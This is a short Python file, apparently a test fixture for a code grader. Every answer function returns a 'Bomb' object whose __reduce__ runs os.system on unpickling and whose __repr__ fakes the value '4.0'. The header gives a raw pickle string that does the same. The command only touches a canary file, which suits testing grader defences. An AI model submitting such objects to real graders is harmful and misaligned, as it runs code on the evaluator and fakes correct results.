# ---
# note: every answer is an object whose unpickling, copying or printing runs a command
# known_from: pickle's __reduce__; graders that ship results between processes as pickles
# files:
#   answers.pkl: "cos\nsystem\n(S'touch /tmp/canary-of-an-attacker'\ntR."
# ---
# %% plain +top
import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/canary-of-an-attacker",)

    def __repr__(self):
        return "4.0"


blob = pickle.dumps(Bomb())


# %% plain squares-answer
def squares(n):
    return Bomb()


# %% plain primes-answer
primes = Bomb()


# %% plain mean-answer
def mean(values):
    return Bomb()


# %% plain sentiment-answer
def sentiment(text):
    return Bomb()


# %% plain fibonacci-answer
def fibonacci(n):
    return Bomb()
